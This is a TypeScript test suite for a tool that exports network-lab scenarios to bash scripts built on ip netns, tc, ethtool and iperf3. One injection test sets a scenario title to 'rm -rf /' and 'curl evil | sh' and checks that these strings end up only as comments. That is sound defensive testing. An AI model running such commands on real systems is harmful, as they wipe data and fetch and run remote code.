import { spawnSync } from 'node:child_process';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { findPreset, PRESETS } from '../scenario/presets/index';
import type { NodeId, Scenario } from '../scenario/types';
import { parseScenario } from '../scenario/validate';
import { ethtoolForInterface, exportNetnsScript, shellQuote } from './netns';

/** Two containers on a Linux bridge over veth links; c1 with TSO and GSO off (an ethtool -K to apply). */
function twoContainersOnBridge(): Scenario {
  const json = {
    version: 1,
    id: 'two-containers',
    title: 'Two containers on a bridge',
    profile: 'kvm-2017',
    seed: 1,
    durationNs: 100e6,
    sampleIntervalNs: 10e6,
    hosts: [{ id: 'h1', cores: 4 }],
    nodes: [
      {
        kind: 'container',
        id: 'c1',
        host: 'h1',
        interfaces: [{ name: 'eth0', template: 'veth', mtu: 1500, queues: 1, ipv4: '10.77.0.1/24', features: { 'tcp-segmentation-offload': false, 'generic-segmentation-offload': false }, vnetHdr: false, qdisc: { kind: 'noqueue' } }],
      },
      {
        kind: 'bridge',
        id: 'br0',
        host: 'h1',
        interfaces: ['p1', 'p2'].map((name) => ({ name, template: 'veth', mtu: 1500, queues: 1, features: {}, vnetHdr: false, qdisc: { kind: 'noqueue' } })),
      },
      {
        kind: 'container',
        id: 'c2',
        host: 'h1',
        interfaces: [{ name: 'eth0', template: 'veth', mtu: 1500, queues: 1, ipv4: '10.77.0.2/24', features: {}, vnetHdr: false, qdisc: { kind: 'noqueue' } }],
      },
    ],
    links: [
      { id: 'l1', kind: 'veth', a: { node: 'c1', iface: 'eth0' }, b: { node: 'br0', iface: 'p1' } },
      { id: 'l2', kind: 'veth', a: { node: 'c2', iface: 'eth0' }, b: { node: 'br0', iface: 'p2' } },
    ],
    flows: [{ kind: 'tcp', id: 'f1', from: 'c1', to: 'c2', startNs: 0, dstPort: 5301 }],
    faults: [],
    timeline: [{ atNs: 50e6, change: { kind: 'set-feature', at: { node: 'c1', iface: 'eth0' }, feature: 'generic-receive-offload', on: false } }],
  };
  const r = parseScenario(json);
  if (!r.ok) throw new Error(r.errors.map((e) => e.message).join('\n'));
  return r.scenario;
}

const routerPreset = () => (findPreset('router-club') as NonNullable<ReturnType<typeof findPreset>>).scenario;

function bashSyntaxOk(script: string): boolean | 'no-bash' {
  const r = spawnSync('bash', ['-n'], { input: script, encoding: 'utf8' });
  if (r.error) return 'no-bash';
  return r.status === 0;
}

describe('netns export: script text', () => {
  it('builds namespaces, veth pairs between them, a bridge, addresses and the iperf3 run', () => {
    const { script, namespaces } = exportNetnsScript(twoContainersOnBridge(), { durationSec: 2 });
    expect(namespaces).toEqual(['c1', 'br0', 'c2']);
    for (const id of namespaces) expect(script).toContain(`ip netns add "$P-"${id}`);
    expect(script).toContain('ip -n "$P-"c1 link add eth0 type veth peer name p1 netns "$P-"br0');
    expect(script).toContain('ip -n "$P-"br0 link add olbr type bridge');
    expect(script).toContain('ip -n "$P-"br0 link set dev p1 master olbr');
    expect(script).toContain('ip -n "$P-"c1 addr add 10.77.0.1/24 dev eth0');
    expect(script).toMatch(/soft x c1 ethtool -K eth0 [^\n]*(tso off|tx-tcp-segmentation off)[^\n]*gso off/);
    expect(script).toContain('x c2 iperf3 -s -1 -p 5301');
    expect(script).toContain('x c1 iperf3 -c 10.77.0.2 -p 5301 -t "$DURATION" -J');
    expect(script).toContain('trap cleanup EXIT');
    expect(script).toContain('DURATION="${DURATION:-2}"');
    expect(script).toMatch(/#\s+at 50\.000 ms: ip netns exec "\$P-c1" ethtool -K eth0 generic-receive-offload off/);
    expect(bashSyntaxOk(script)).not.toBe(false);
  });

  it('a router gets forwarding, its routes, and the VMs a default route through it', () => {
    const { script } = exportNetnsScript(routerPreset());
    expect(script).toContain('x r1 sysctl -qw net.ipv4.ip_forward=1');
    expect(script).toContain('ip -n "$P-"r1 route replace 10.0.2.0/24 dev eth1');
    expect(script).toContain('ip -n "$P-"vm1 route replace default via 10.0.1.1 dev eth0');
    expect(script).toContain('ip -n "$P-"vm2 route replace default via 10.0.2.1 dev eth0');
  });

  it('every preset exports to a syntactically valid script that touches only its own namespaces', () => {
    for (const p of PRESETS) {
      const { script } = exportNetnsScript(p.scenario);
      expect(bashSyntaxOk(script), p.id).not.toBe(false);
      for (const line of script.split('\n')) {
        if (/^(soft )?(ip|tc) /.test(line) && !line.startsWith('ip netns add')) expect(line, `${p.id}: ${line}`).toMatch(/^(soft )?(ip|tc) -n "\$P-"/);
        expect(line, p.id).not.toMatch(/^(ip|tc|ethtool) (?!-n "\$P-|netns (add|list|del|pids) )/);
      }
      // Deterministic.
      expect(exportNetnsScript(p.scenario).script).toBe(script);
    }
  });

  it('shaping becomes tbf (+ the qdisc under it), wires netem with a tbf fallback', () => {
    const qos = exportNetnsScript((findPreset('qos-slow-egress') as NonNullable<ReturnType<typeof findPreset>>).scenario).script;
    expect(qos).toMatch(/tc -n "\$P-"r1 qdisc replace dev eth1 root handle 1: tbf rate 10000000bit burst \d+ limit \d+/);
    expect(qos).toContain('qdisc add dev eth1 parent 1:1 handle 10: prio bands 3');
    const nic = exportNetnsScript((findPreset('vm-to-vm-vs-nic-to-vm') as NonNullable<ReturnType<typeof findPreset>>).scenario).script;
    expect(nic).toMatch(/root netem delay 1us rate 100000000000bit limit 100000 \|\| soft tc [^\n]* tbf rate 100000000000bit/);
  });

  it('a hostile title or id cannot become a command (comments stay one line)', () => {
    const s = twoContainersOnBridge();
    s.title = 'x\nrm -rf / #\r\u2028curl evil | sh';
    const { script } = exportNetnsScript(s);
    const hits = script.split('\n').filter((l) => l.includes('curl evil') || l.includes('rm -rf /'));
    expect(hits.length).toBeGreaterThan(0);
    for (const l of hits) expect(l.startsWith('# '), l).toBe(true);
    expect(shellQuote("a b'c")).toBe(`'a b'\\''c'`);
    expect(shellQuote('eth0')).toBe('eth0');
  });

  it('ethtool intent goes through the features library: template defaults + intent, on a veth', () => {
    const c1 = twoContainersOnBridge().nodes[0].interfaces[0];
    expect(ethtoolForInterface(c1, 'container').command).toMatch(/^ethtool -K eth0 .*gso off/);
    // A virtio-net guest port: GRO on (veth turns it off by default), hardware GRO noted as unsupported.
    const vmPort = routerPreset().nodes[0].interfaces[0];
    const r = ethtoolForInterface(vmPort, 'vm');
    expect(r.command).toBe('ethtool -K eth0 gro on');
    expect(r.unsupported).toContain('rx-gro-hw');
    // An interface whose intent equals the veth defaults needs no command at all.
    expect(ethtoolForInterface(twoContainersOnBridge().nodes[2].interfaces[0], twoContainersOnBridge().nodes[2].kind).command).toBe('');
  });
});

// ---- for real: root, ip netns, iperf3 (Debian: apt-get install -y iproute2 iperf3 ethtool) ----

function realKernelSkipReason(): string | null {
  if (process.platform !== 'linux') return 'not Linux';
  if (typeof process.getuid !== 'function' || process.getuid() !== 0) return 'not root';
  for (const tool of ['ip', 'tc', 'ss', 'iperf3', 'ethtool', 'bash']) {
    if (spawnSync('sh', ['-c', `command -v ${tool}`]).status !== 0) return `${tool} is not installed`;
  }
  const probe = `olabprobe${process.pid}`;
  const add = spawnSync('ip', ['netns', 'add', probe]);
  spawnSync('ip', ['netns', 'del', probe]);
  if (add.status !== 0) return `cannot create network namespaces: ${String(add.stderr).trim()}`;
  return null;
}

const skipReason = realKernelSkipReason();

function namespacesWithPrefix(prefix: string): string[] {
  const r = spawnSync('ip', ['netns', 'list'], { encoding: 'utf8' });
  return r.stdout
    .split('\n')
    .map((l) => l.split(' ')[0])
    .filter((n) => n.startsWith(`${prefix}-`));
}

function runForReal(s: Scenario, prefix: string): { stdout: string; stderr: string; status: number | null; results: Map<string, number> } {
  const dir = mkdtempSync(join(tmpdir(), 'olab-netns-'));
  try {
    const file = join(dir, 'lab.sh');
    writeFileSync(file, exportNetnsScript(s, { durationSec: 1 }).script);
    const r = spawnSync('bash', [file], { encoding: 'utf8', timeout: 30_000, env: { ...process.env, OLAB_PREFIX: prefix, DURATION: '1' } });
    const results = new Map<string, number>();
    for (const m of r.stdout.matchAll(/^RESULT flow=(\S+) kind=\S+ bits_per_second=([0-9.eE+-]+)/gm)) results.set(m[1], Number(m[2]));
    return { stdout: r.stdout, stderr: r.stderr, status: r.status, results };
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
}

describe.skipIf(skipReason !== null)(`netns export on this kernel${skipReason ? ` (skipped: ${skipReason})` : ''}`, () => {
  it('two containers + a bridge: iperf3 throughput > 0, no namespace left behind', () => {
    const prefix = `olabt${process.pid}a`;
    const r = runForReal(twoContainersOnBridge(), prefix);
    expect(r.status, `${r.stdout}\n${r.stderr}`).toBe(0);
    expect(r.results.get('f1'), r.stdout + r.stderr).toBeGreaterThan(0);
    expect(namespacesWithPrefix(prefix)).toEqual([]);
  });

  it('VM → router → VM (router-club): forwarded throughput > 0, no namespace left behind', () => {
    const prefix = `olabt${process.pid}b`;
    const s = routerPreset();
    // Keep it small and quick: one flow, as in the preset.
    expect(s.flows.map((f) => f.from)).toEqual(['vm1' as NodeId]);
    const r = runForReal(s, prefix);
    expect(r.status, `${r.stdout}\n${r.stderr}`).toBe(0);
    expect(r.results.get('f1'), r.stdout + r.stderr).toBeGreaterThan(0);
    expect(namespacesWithPrefix(prefix)).toEqual([]);
  });
});
